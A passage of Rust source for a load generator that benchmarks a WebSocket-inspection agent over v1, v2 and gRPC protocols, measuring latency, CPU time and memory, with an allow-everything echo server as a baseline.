        .await
        .map_err(|e| ("handshake", format!("write: {e}")))?;
    let deadline = Instant::now() + timeout;
    loop {
        if let Some((body_start, body_end)) = next_message(rbuf, Protocol::V2)? {
            let message = rbuf[body_start..body_end].to_vec();
            rbuf.drain(..body_end);
            if message[0] != HANDSHAKE_RESPONSE {
                continue;
            }
            let value: Value = serde_json::from_slice(&message[1..])
                .map_err(|e| ("handshake", format!("bad handshake response: {e}")))?;
            if value["success"] != Value::Bool(true) {
                return Err(("handshake", format!("refused: {}", value["error"])));
            }
            return Ok(());
        }
        rbuf.reserve(16 * 1024);
        let remaining = deadline.saturating_duration_since(Instant::now());
        match tokio::time::timeout(remaining, stream.read_buf(rbuf)).await {
            Err(_) => return Err(("handshake", "no handshake response".into())),
            Ok(Err(e)) => return Err(("handshake", format!("read: {e}"))),
            Ok(Ok(0)) => return Err(("handshake", "closed during the handshake".into())),
            Ok(Ok(_)) => {}
        }
    }
}

/// The agent process being measured.
struct AgentProcess {
    pid: Option<u32>,
    child: Option<Child>,
}

impl AgentProcess {
    fn rss_kib(&self) -> Option<u64> {
        let status = std::fs::read_to_string(format!("/proc/{}/status", self.pid?)).ok()?;
        status
            .lines()
            .find_map(|line| line.strip_prefix("VmRSS:"))
            .and_then(|rest| rest.trim().trim_end_matches("kB").trim().parse().ok())
    }

    /// CPU time (user + system, all threads) the agent has used so far.
    fn cpu_time(&self) -> Option<Duration> {
        let stat = std::fs::read_to_string(format!("/proc/{}/stat", self.pid?)).ok()?;
        // Fields after the command name (which is in parentheses and may contain spaces).
        let rest = &stat[stat.rfind(')')? + 2..];
        let fields: Vec<&str> = rest.split_whitespace().collect();
        let ticks: u64 =
            fields.get(11)?.parse::<u64>().ok()? + fields.get(12)?.parse::<u64>().ok()?;
        Some(Duration::from_secs_f64(
            ticks as f64 / clock_ticks_per_second(),
        ))
    }

    fn stop(&mut self) {
        if let Some(mut child) = self.child.take() {
            // SIGTERM first so the agent removes its socket, then make sure it is gone.
            let _ = Command::new("kill")
                .arg("-TERM")
                .arg(child.id().to_string())
                .status();
            let deadline = Instant::now() + Duration::from_secs(5);
            while Instant::now() < deadline {
                if let Ok(Some(_)) = child.try_wait() {
                    return;
                }
                std::thread::sleep(Duration::from_millis(20));
            }
            let _ = child.kill();
            let _ = child.wait();
        }
    }
}

impl Drop for AgentProcess {
    fn drop(&mut self) {
        self.stop();
    }
}

/// `getconf CLK_TCK` (the unit of /proc/PID/stat times); 100 on Linux unless told otherwise.
fn clock_ticks_per_second() -> f64 {
    static TICKS: std::sync::OnceLock<f64> = std::sync::OnceLock::new();
    *TICKS.get_or_init(|| {
        Command::new("getconf")
            .arg("CLK_TCK")
            .output()
            .ok()
            .and_then(|o| String::from_utf8(o.stdout).ok())
            .and_then(|s| s.trim().parse().ok())
            .unwrap_or(100.0)
    })
}

async fn start_agent(args: &Args) -> Result<AgentProcess, String> {
    let Some(command) = &args.agent_cmd else {
        return Ok(AgentProcess {
            pid: args.pid,
            child: None,
        });
    };
    let stderr = match &args.agent_log {
        Some(path) => Stdio::from(
            std::fs::File::create(path)
                .map_err(|e| format!("--agent-log {}: {e}", path.display()))?,
        ),
        None => Stdio::null(),
    };
    let child = Command::new("sh")
        .arg("-c")
        .arg(format!("exec {command}"))
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(stderr)
        .spawn()
        .map_err(|e| format!("cannot start the agent: {e}"))?;
    let mut agent = AgentProcess {
        pid: Some(child.id()),
        child: Some(child),
    };
    let deadline = Instant::now() + Duration::from_secs(15);
    loop {
        if let Some(child) = agent.child.as_mut() {
            if let Ok(Some(status)) = child.try_wait() {
                agent.child = None;
                return Err(format!("the agent exited at start-up ({status})"));
            }
        }
        let ready = match args.protocol {
            Protocol::GrpcV1 => tokio::net::TcpStream::connect(&args.grpc_address)
                .await
                .is_ok(),
            Protocol::V1 | Protocol::V2 => UnixStream::connect(&args.socket).await.is_ok(),
        };
        if ready {
            // Let it settle after the probe connection.
            tokio::time::sleep(Duration::from_millis(200)).await;
            return Ok(agent);
        }
        if Instant::now() > deadline {
            return Err(match args.protocol {
                Protocol::GrpcV1 => format!(
                    "the agent did not listen on {} within 15 s",
                    args.grpc_address
                ),
                Protocol::V1 | Protocol::V2 => format!(
                    "the agent did not open {} within 15 s",
                    args.socket.display()
                ),
            });
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
}

async fn drive(args: Args) -> Result<(), String> {
    let mix = match args.connections_only {
        Some(_) => vec![(Kind::Chat, 1)],
        None => parse_mix(&args.mix)?,
    };
    let in_flight = match args.protocol {
        Protocol::V1 => 1,
        Protocol::V2 | Protocol::GrpcV1 => args.in_flight.max(1),
    };
    if args.protocol == Protocol::V1 && args.in_flight > 1 {
        eprintln!("loadgen: v1 allows one request in flight per connection; --in-flight ignored");
    }
    let connections = args.connections.max(1);
    let websockets = args.connections_only.unwrap_or(args.websockets);
    let slots = connections * in_flight;
    if websockets < slots {
        return Err(format!(
            "--websockets ({websockets}) must be at least connections x in-flight ({slots}): each \
             request slot owns its WebSockets so that in-flight ids are distinct and each \
             WebSocket's frames stay in order"
        ));
    }
    let corpus = Corpus::build(&args, mix.clone());
    let prefix = args.id_prefix.clone().unwrap_or_else(|| {
        let nanos = std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)
            .map_or(0, |d| d.subsec_nanos());
        format!("lg{}-{nanos:08x}-", std::process::id())
    });
    let ids: Vec<String> = (0..websockets).map(|i| format!("{prefix}{i}")).collect();

    let mut agent = start_agent(&args).await?;
    let rss_before = agent.rss_kib();

    let warmup = if args.connections_only.is_some() {
        0.0
    } else {
        args.warmup.max(0.0)
    };
    let start = Instant::now();
    let measure_start = start + Duration::from_secs_f64(warmup);
    let (end, budget) = match (args.connections_only, args.frames, args.duration) {
        (Some(_), _, _) => (None, None),
        (None, Some(frames), _) => (None, Some(AtomicI64::new(frames as i64))),
        (None, None, duration) => (
            Some(measure_start + Duration::from_secs_f64(duration.unwrap_or(10.0).max(0.001))),
            None,
        ),
    };
    let ctx = Arc::new(RunContext {
        protocol: args.protocol,
        grpc_address: args.grpc_address.clone(),
        route_id: args.route_id.clone(),
        corpus,
        ids,
        measure_start,
        end,
        budget,
        one_pass: args.connections_only.is_some(),
        timeout: Duration::from_millis(args.timeout_ms.max(1)),
        seed: args.seed,
    });
    // The agent's CPU time over the measured window: read when the warm-up ends and at the end.
    let cpu_pid = agent.pid;
    let own = AgentProcess {
        pid: Some(std::process::id()),
        child: None,
    };
    let cpu_at_start = tokio::spawn(async move {
        tokio::time::sleep_until(measure_start.into()).await;
        let agent = AgentProcess {
            pid: cpu_pid,
            child: None,
        };
        let own = AgentProcess {
            pid: Some(std::process::id()),
            child: None,
        };
        (agent.cpu_time(), own.cpu_time())
    });
    let mut plans = vec![vec![Vec::new(); in_flight]; connections];
    for w in 0..websockets {
        let slot = w % slots;
        plans[slot / in_flight][slot % in_flight].push(w);
    }
    let mut tasks = Vec::new();
    for (index, plan) in plans.into_iter().enumerate() {
        tasks.push(tokio::spawn(run_connection(
            Arc::clone(&ctx),
            index,
            plan,
            args.socket.clone(),
        )));
    }
    let mut total = ConnResult::new();
    for task in tasks {
        let result = task
            .await
            .map_err(|e| format!("a connection task failed: {e}"))?;
        total.histogram.merge(&result.histogram);
        total.frames += result.frames;
        total.payload_bytes += result.payload_bytes;
        total.sent += result.sent;
        for (k, v) in result.decisions {
            *total.decisions.entry(k).or_default() += v;
        }
        for (k, v) in result.errors {
            *total.errors.entry(k).or_default() += v;
        }
        if total.first_error.is_none() {
            total.first_error = result.first_error;
        }
        total.last_completion = total.last_completion.max(result.last_completion);
    }
    let finished = Instant::now();
    let elapsed = match (end, args.connections_only) {
        (Some(end), _) => end.saturating_duration_since(measure_start),
        (None, _) => total
            .last_completion
            .unwrap_or(finished)
            .saturating_duration_since(measure_start),
    };
    let rss_after = agent.rss_kib();
    let (agent_cpu_start, own_cpu_start) = cpu_at_start.await.unwrap_or((None, None));
    let window = |start: Option<Duration>, end: Option<Duration>| Some(end?.saturating_sub(start?));
    let cpu = window(agent_cpu_start, agent.cpu_time());
    let own_cpu = window(own_cpu_start, own.cpu_time());
    let rss_settled = if args.settle > 0.0 {
        tokio::time::sleep(Duration::from_secs_f64(args.settle)).await;
        agent.rss_kib()
    } else {
        None
    };
    agent.stop();

    let report = Report {
        args: &args,
        mix: &mix,
        in_flight,
        connections,
        websockets,
        warmup,
        elapsed,
        total: &total,
        rss_before,
        rss_after,
        rss_settled,
        cpu,
        own_cpu,
    };
    if args.json {
        println!("{}", report.json());
    } else {
        report.print();
    }
    if total.frames == 0 {
        return Err(match &total.first_error {
            Some(error) => format!("no frame was answered; first error: {error}"),
            None => "no frame was answered".into(),
        });
    }
    Ok(())
}

struct Report<'a> {
    args: &'a Args,
    mix: &'a [(Kind, u32)],
    in_flight: usize,
    connections: usize,
    websockets: usize,
    warmup: f64,
    elapsed: Duration,
    total: &'a ConnResult,
    rss_before: Option<u64>,
    rss_after: Option<u64>,
    rss_settled: Option<u64>,
    /// Agent CPU time from the end of the warm-up to the end of the run.
    cpu: Option<Duration>,
    /// The load generator's own CPU time over the same window.
    own_cpu: Option<Duration>,
}

impl Report<'_> {
    /// Agent CPU microseconds per measured frame (the run's tail of in-flight frames included).
    fn cpu_us_per_frame(&self) -> Option<f64> {
        self.per_frame(self.cpu?)
    }

    fn per_frame(&self, cpu: Duration) -> Option<f64> {
        (self.total.frames > 0).then(|| cpu.as_secs_f64() * 1e6 / self.total.frames as f64)
    }

    fn mix_text(&self) -> String {
        self.mix
            .iter()
            .map(|(k, w)| format!("{}={w}", k.name()))
            .collect::<Vec<_>>()
            .join(",")
    }

    fn rate(&self) -> f64 {
        self.total.frames as f64 / self.elapsed.as_secs_f64().max(1e-9)
    }

    fn micros(&self, q: f64) -> f64 {
        self.total.histogram.quantile(q) as f64 / 1e3
    }

    fn decisions(&self) -> BTreeMap<String, u64> {
        let mut sorted: Vec<_> = self.total.decisions.iter().collect();
        sorted.sort();
        sorted.into_iter().map(|(k, v)| (k.label(), *v)).collect()
    }

    /// RSS growth per WebSocket (connections-only runs).
    fn bytes_per_websocket(&self) -> Option<f64> {
        let (before, after) = (self.rss_before?, self.rss_after?);
        self.args
            .connections_only
            .map(|n| (after as f64 - before as f64) * 1024.0 / n.max(1) as f64)
    }

    fn json(&self) -> Value {
        let h = &self.total.histogram;
        json!({
            "mode": if self.args.connections_only.is_some() { "connections-only" } else { "load" },
            "socket": self.args.socket.display().to_string(),
            "protocol": self.args.protocol.name(),
            "connections": self.connections,
            "in_flight": self.in_flight,
            "websockets": self.websockets,
            "mix": self.mix_text(),
            "sizes": {"chat": self.args.chat_size, "json": self.args.json_size,
                      "binary": self.args.binary_size, "fragments": self.args.fragments},
            "warmup_s": self.warmup,
            "elapsed_s": self.elapsed.as_secs_f64(),
            "frames": self.total.frames,
            "sent": self.total.sent,
            "frames_per_s": self.rate(),
            "payload_mb_per_s": self.total.payload_bytes as f64 / 1e6 / self.elapsed.as_secs_f64().max(1e-9),
            "latency_us": {
                "p50": self.micros(0.5), "p90": self.micros(0.9), "p99": self.micros(0.99),
                "p99_9": self.micros(0.999), "max": h.max as f64 / 1e3, "mean": h.mean() / 1e3,
            },
            "decisions": self.decisions(),
            "errors": self.total.errors,
            "first_error": self.total.first_error,
            "rss_kib": {"before": self.rss_before, "after": self.rss_after,
                        "after_settle": self.rss_settled, "settle_s": self.args.settle},
            "rss_bytes_per_websocket": self.bytes_per_websocket(),
            "agent_cpu_s": self.cpu.map(|c| c.as_secs_f64()),
            "agent_cpu_us_per_frame": self.cpu_us_per_frame(),
            "loadgen_cpu_us_per_frame": self.own_cpu.and_then(|c| self.per_frame(c)),
        })
    }

    fn print(&self) {
        let a = self.args;
        let h = &self.total.histogram;
        println!(
            "protocol {}, {} connections x {} in flight, {} websockets, {}",
            a.protocol.name(),
            self.connections,
            self.in_flight,
            self.websockets,
            match a.connections_only {
                Some(n) => format!(
                    "connections-only: one {} B chat frame to each of {n} ids",
                    a.chat_size
                ),
                None => format!(
                    "mix {} (chat {} B, json {} B, binary {} B, fragmented {} x ~{} B)",
                    self.mix_text(),
                    a.chat_size,
                    a.json_size,
                    a.binary_size,
                    a.fragments,
                    a.json_size.div_ceil(a.fragments as usize)
                ),
            }
        );
        println!(
            "measured   {:.2} s after {:.1} s warm-up",
            self.elapsed.as_secs_f64(),
            self.warmup
        );
        println!(
            "frames     {} answered ({:.0} frames/s, {:.1} MB/s payload)",
            self.total.frames,
            self.rate(),
            self.total.payload_bytes as f64 / 1e6 / self.elapsed.as_secs_f64().max(1e-9)
        );
        println!(
            "latency    p50 {:.1} us  p90 {:.1} us  p99 {:.1} us  p99.9 {:.1} us  max {:.1} us  mean {:.1} us",
            self.micros(0.5),
            self.micros(0.9),
            self.micros(0.99),
            self.micros(0.999),
            h.max as f64 / 1e3,
            h.mean() / 1e3
        );
        let decisions = self
            .decisions()
            .into_iter()
            .map(|(k, v)| format!("{k}: {v}"))
            .collect::<Vec<_>>();
        println!("decisions  {}", decisions.join(", "));
        if self.total.errors.is_empty() {
            println!("errors     none");
        } else {
            let errors = self
                .total
                .errors
                .iter()
                .map(|(k, v)| format!("{k}: {v}"))
                .collect::<Vec<_>>();
            println!("errors     {}", errors.join(", "));
            if let Some(first) = &self.total.first_error {
                println!("           first: {first}");
            }
        }
        if let Some(per) = self.own_cpu.and_then(|c| self.per_frame(c)) {
            println!("loadgen    {per:.2} us of its own CPU per frame");
        }
        let mib = |kib: Option<u64>| {
            kib.map_or("n/a".to_string(), |k| {
                format!("{:.1} MiB", k as f64 / 1024.0)
            })
        };
        if self.rss_before.is_some() || self.rss_after.is_some() {
            print!(
                "agent RSS  before {}, after {}",
                mib(self.rss_before),
                mib(self.rss_after)
            );
            if let Some(settled) = self.rss_settled {
                print!(", {} s later {}", a.settle, mib(Some(settled)));
            }
            println!();
            if let (Some(cpu), Some(per)) = (self.cpu, self.cpu_us_per_frame()) {
                println!(
                    "agent CPU  {:.2} s over the measured window ({per:.2} us per frame, {:.2} cores)",
                    cpu.as_secs_f64(),
                    cpu.as_secs_f64() / self.elapsed.as_secs_f64().max(1e-9)
                );
            }
            if let Some(per) = self.bytes_per_websocket() {
                println!("per id     {per:.0} bytes of RSS per tracked WebSocket");
            }
        }
    }
}

// ------------------------------------------------------------------------------------------------
// The echo server: the transport floor

/// v1 answer: allow, version 1.
const V1_ALLOW: &[u8] = br#"{"version":1,"decision":"allow","websocket_decision":"allow","audit":{"tags":[],"rule_ids":[],"reason_codes":[],"custom":{}}}"#;
const V2_ALLOW_HEAD: &[u8] = br#"{"version":2,"decision":"allow","websocket_decision":"allow","audit":{"tags":[],"rule_ids":[],"reason_codes":[],"custom":{"correlation_id":"#;
const V2_ALLOW_TAIL: &[u8] = b"}}}";
const V2_HANDSHAKE: &[u8] = br#"{"protocol_version":2,"capabilities":{"agent_id":"echo","name":"loadgen-echo","version":"0.1.0","supported_events":[6],"features":{"streaming_body":false,"websocket":true,"guardrails":false,"config_push":true,"metrics_export":false,"concurrent_requests":1024,"cancellation":true,"flow_control":false,"health_reporting":false},"limits":{"max_body_size":16777216,"max_concurrency":1024,"preferred_chunk_size":65536}},"success":true,"encoding":"json"}"#;

#[derive(Deserialize)]
struct EchoCorrelation<'a> {
    #[serde(borrow)]
    correlation_id: std::borrow::Cow<'a, str>,
}

async fn echo_server(path: PathBuf) -> Result<(), String> {
    if let Ok(meta) = std::fs::symlink_metadata(&path) {
        if !meta.file_type().is_socket() {
            return Err(format!("{} exists and is not a socket", path.display()));
        }
        if UnixStream::connect(&path).await.is_ok() {
            return Err(format!("{} is in use", path.display()));
        }
        let _ = std::fs::remove_file(&path);
    }
    let listener =
        UnixListener::bind(&path).map_err(|e| format!("cannot bind {}: {e}", path.display()))?;
    eprintln!(
        "loadgen echo server on {} (v1 and v2; every frame allowed)",
        path.display()
    );
    let accept = async {
        loop {
            match listener.accept().await {
                Ok((stream, _)) => {
                    tokio::spawn(async move {
                        if let Err(error) = echo_connection(stream).await {
                            eprintln!("echo connection: {error}");
                        }
                    });
                }
                Err(error) => {
                    eprintln!("accept: {error}");
                    tokio::time::sleep(Duration::from_millis(10)).await;
                }
            }
        }
    };
    tokio::select! {
        _ = accept => {}
        _ = tokio::signal::ctrl_c() => {}
    }
    let _ = std::fs::remove_file(&path);
    Ok(())
}

async fn echo_connection(stream: UnixStream) -> std::io::Result<()> {
    let (reader, writer) = stream.into_split();
    let mut reader = BufReader::with_capacity(64 * 1024, reader);
    let mut writer = BufWriter::with_capacity(64 * 1024, writer);
    let mut body = Vec::with_capacity(64 * 1024);
    let mut out = Vec::with_capacity(1024);
    let mut v2 = None;
    loop {
        let length = match reader.read_u32().await {
            Ok(length) => length as usize,
            Err(e) if e.kind() == std::io::ErrorKind::UnexpectedEof => return Ok(()),
            Err(e) => return Err(e),
        };
        if length == 0 || length > V2_MAX_MESSAGE {
            return Err(std::io::Error::other(format!("bad length {length}")));
        }
        body.resize(length, 0);
        reader.read_exact(&mut body).await?;
        let is_v2 = *v2.get_or_insert(body[0] == HANDSHAKE_REQUEST);
        out.clear();
        if !is_v2 {
            out.extend_from_slice(&(V1_ALLOW.len() as u32).to_be_bytes());
            out.extend_from_slice(V1_ALLOW);
        } else {
            match body[0] {
                HANDSHAKE_REQUEST => {
                    let start = begin_message(&mut out, Protocol::V2, HANDSHAKE_RESPONSE);
                    out.extend_from_slice(V2_HANDSHAKE);
                    end_message(&mut out, start);
                }
                0x10..=CONFIGURE => {
                    let id = serde_json::from_slice::<EchoCorrelation<'_>>(&body[1..])
                        .map(|c| c.correlation_id)
                        .unwrap_or_default();
                    let start = begin_message(&mut out, Protocol::V2, AGENT_RESPONSE);
                    out.extend_from_slice(V2_ALLOW_HEAD);
                    serde_json::to_writer(&mut out, id.as_ref()).map_err(std::io::Error::other)?;
                    out.extend_from_slice(V2_ALLOW_TAIL);
                    end_message(&mut out, start);
                }
                PING => {
                    let start = begin_message(&mut out, Protocol::V2, PONG);
                    out.extend_from_slice(&body[1..]);
                    end_message(&mut out, start);
                }
                CANCEL => {}
                _ => {}
            }
        }
        writer.write_all(&out).await?;
        if reader.buffer().is_empty() {
            writer.flush().await?;
        }
    }
}

// ------------------------------------------------------------------------------------------------
// gRPC v1 (client side)

mod grpc {
    use std::time::Instant;

    use sentinel_ws_agent::transport::grpc::proto::sentinel_v1 as pb;
    use tokio::task::JoinSet;
    use tonic::codegen::http::uri::PathAndQuery;

    use super::{ConnError, Connection, Decision};

    const PROCESS_EVENT: &str = "/sentinel.agent.v1.AgentProcessor/ProcessEvent";

    type Client = tonic::client::Grpc<tonic::transport::Channel>;
    type Calls = JoinSet<(usize, Result<pb::AgentResponse, tonic::Status>)>;

    /// Runs one HTTP/2 connection until its slots are done and answered; every slot keeps one
    /// unary call in flight.
    pub async fn drive_connection(conn: &mut Connection<'_>) -> Result<(), ConnError> {
        let ctx = conn.ctx;
        let address = &ctx.grpc_address;
        let endpoint = tonic::transport::Endpoint::from_shared(format!("http://{address}"))
            .map_err(|e| ("connect", format!("--grpc-address {address}: {e}")))?;
        let channel = endpoint
            .connect()
            .await
            .map_err(|e| ("connect", format!("{address}: {e}")))?;
        let client = Client::new(channel);
        let mut calls = Calls::new();
        for slot in 0..conn.slots.len() {
            start_call(conn, slot, &client, &mut calls);
        }
        while conn.in_flight > 0 {
            let joined = tokio::time::timeout(ctx.timeout, calls.join_next()).await;
            let (slot, answer) = match joined {
                Err(_) => {
                    return Err((
                        "timeout",
                        format!("no answer within {} ms", ctx.timeout.as_millis()),
                    ))
                }
                Ok(None) => return Err(("io", "requests in flight but no call running".into())),
                Ok(Some(Err(e))) => return Err(("io", format!("a call task failed: {e}"))),
                Ok(Some(Ok(done))) => done,
            };
            let now = Instant::now();
            let response = answer.map_err(|status| ("grpc-status", status.to_string()))?;
            if response.decision.is_none() {
                conn.result
                    .error("missing-decision", 1, || format!("{response:?}"));
            }
            if response.version != 1 {
                conn.result.error("version-mismatch", 1, || {
                    format!("version {}", response.version)
                });
            }
            use pb::agent_response::WebsocketDecision;
            let decision = match response.websocket_decision {
                None => Decision::Absent,
                Some(WebsocketDecision::WebsocketAllow(_)) => Decision::Allow,
                Some(WebsocketDecision::WebsocketDrop(_)) => Decision::Drop,
                Some(WebsocketDecision::WebsocketClose(close)) => {
                    Decision::Close(u16::try_from(close.code).unwrap_or(u16::MAX))
                }
            };
            conn.complete(slot, decision, now);
            start_call(conn, slot, &client, &mut calls);
        }
        Ok(())
    }

    /// Starts `slot`'s next call, if it has a frame to send.
    fn start_call(conn: &mut Connection<'_>, slot: usize, client: &Client, calls: &mut Calls) {
        let Some(next) = conn.next_frame(slot) else {
            return;
        };
        let ctx = conn.ctx;
        let request = pb::AgentRequest {
            version: 1,
            event_type: pb::EventType::WebsocketFrame as i32,
            event: Some(pb::agent_request::Event::WebsocketFrame(
                pb::WebSocketFrameEvent {
                    correlation_id: ctx.ids[next.websocket].clone(),
                    opcode: next.frame.opcode.to_string(),
                    data: ctx.corpus.raw[next.frame.payload].clone(),
                    client_to_server: next.c2s,
                    frame_index: next.frame_index,
                    fin: next.frame.fin,
                    route_id: Some(ctx.route_id.clone()),
                    client_ip: "127.0.0.1".into(),
                },
            )),
        };
        let mut client = client.clone();
        calls.spawn(async move {
            let answer = async {
                client
                    .ready()
                    .await
                    .map_err(|e| tonic::Status::unavailable(e.to_string()))?;
                client
                    .unary(
                        tonic::Request::new(request),
                        PathAndQuery::from_static(PROCESS_EVENT),
                        tonic_prost::ProstCodec::default(),
                    )
                    .await
                    .map(tonic::Response::into_inner)
            }
            .await;
            (slot, answer)
        });
    }
}
